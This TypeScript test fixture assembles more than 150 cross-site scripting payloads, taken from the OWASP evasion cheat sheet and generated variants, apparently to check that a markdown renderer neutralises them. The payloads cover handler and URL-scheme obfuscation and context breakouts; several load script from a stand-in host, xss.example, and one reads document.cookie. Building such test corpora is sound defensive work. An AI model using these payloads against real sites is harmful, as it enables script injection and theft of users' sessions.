// Payloads from the OWASP XSS Filter Evasion Cheat Sheet (plus markdown-specific
// forms), each of which calls alert() or loads foreign script if it executes.
const CHEAT_SHEET = [
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>`,
  `<details open ontoggle=alert(1)>`,
  `[markdown link](javascript:alert(1))`,
  `[entity link](javascript&#58;alert(1))`,
  `![image](x" onerror="alert(1))`,
  `<a href="javascript:alert(1)">raw html link</a>`,
];

// Event handlers on the elements that fire them without a click (or with the
// hover that expectInert sends), in the spellings filters miss.
const HANDLER_TAGS = [
  `<img src=x {h}=alert(1)>`,
  `<svg {h}=alert(1)>`,
  `<body {h}=alert(1)>`,
  `<video src=x {h}=alert(1)>`,
  `<audio src=x {h}=alert(1)>`,
  `<input autofocus {h}=alert(1)>`,
  `<details open {h}=alert(1)>`,
  `<marquee {h}=alert(1)>x</marquee>`,
  `<iframe src=x {h}=alert(1)>`,
  `<object data=x {h}=alert(1)>`,
  `<select autofocus {h}=alert(1)>`,
  `<textarea autofocus {h}=alert(1)>`,
  `<div style="animation-name:x" {h}=alert(1)>`,
  `<a href=# {h}=alert(1)>link</a>`,
];
const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "OnErRoR", "onpointerenter"];

// javascript: URLs behind every attribute that takes one, obfuscated.
const SCHEMES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\u0000script:alert(1)",
  "&#x6A;avascript:alert(1)",
  " javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
];
const URL_ATTRIBUTES = [
  `<a href="{u}">a</a>`,
  `<iframe src="{u}"></iframe>`,
  `<form action="{u}"><button>b</button></form>`,
  `<button formaction="{u}">b</button>`,
  `<object data="{u}"></object>`,
  `<embed src="{u}">`,
  `[md link]({u})`,
  `![md image]({u})`,
  `<{u}>`,
  `[ref link][r]\n\n[r]: {u}`,
];

// Breaking out of the contexts Marquee writes text into: JSON-LD, attributes, titles, feeds, templates.
const CONTEXT_BREAKOUTS = [
  `</script><script>alert(1)</script>`,
  `"}]</script><script>alert(1)</script>`,
  `\u003c/script\u003e\u003cscript\u003ealert(1)\u003c/script\u003e`,
  `" onmouseover="alert(1)" x="`,
  `' onmouseover='alert(1)' x='`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `]]><script>alert(1)</script><![CDATA[`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `\${alert(1)}`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<base href="javascript:alert(1)//">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">`,
  `<link rel=import href="data:text/html,<script>alert(1)</script>">`,
  `<style>@import 'javascript:alert(1)';</style>`,
  `<div style="width:expression(alert(1))">`,
  `<x contenteditable onblur=alert(1)>lose focus</x>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<frameset onload=alert(1)>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>svg link</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=alert(1)>`,
  `<math href="javascript:alert(1)">math link</math>`,
  `:::spoiler{onclick="alert(1)"}\nspoiler with a handler\n:::`,
  `::spoiler[leaf]{style="background:url(javascript:alert(1))"}`,
  `<img src="x" alt="\u202Egnp.exe" onerror=alert(1)>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
];

/** 150+ payloads: the cheat sheet, then generated handler, URL and context variants. */
const pick = <T>(list: readonly T[], i: number, offsets: number[]) => offsets.map((offset) => list[(i + offset) % list.length]!);
export const XSS_PAYLOADS: string[] = [
  ...new Set(
    [
      ...CHEAT_SHEET,
      ...HANDLER_TAGS.flatMap((tag, i) => pick(HANDLERS, i, [0, 3, 5, 6]).map((h) => tag.replace("{h}", h))),
      ...URL_ATTRIBUTES.flatMap((template, i) => pick(SCHEMES, i, [0, 2, 4, 5]).map((u) => template.replace("{u}", u))),
      ...CONTEXT_BREAKOUTS,
    ].map((payload) => payload.replaceAll("\\n", "\n")),
  ),
];

/**
 * The corpus in chunks of whole payloads that each stay within the markdown
 * limits (lib/markdown/bounds.ts), so every payload is saved and rendered
 * rather than refused as too complex.
 */
export function payloadChunks(fits: (text: string) => boolean): string[] {
  const chunks: string[] = [];
  let current: string[] = [];
  for (const payload of XSS_PAYLOADS) {
    if (current.length > 0 && !fits([...current, payload].join("\n\n"))) {
      chunks.push(current.join("\n\n"));
      current = [];
    }
    current.push(payload);
  }
  if (current.length > 0) chunks.push(current.join("\n\n"));
  return chunks;
}
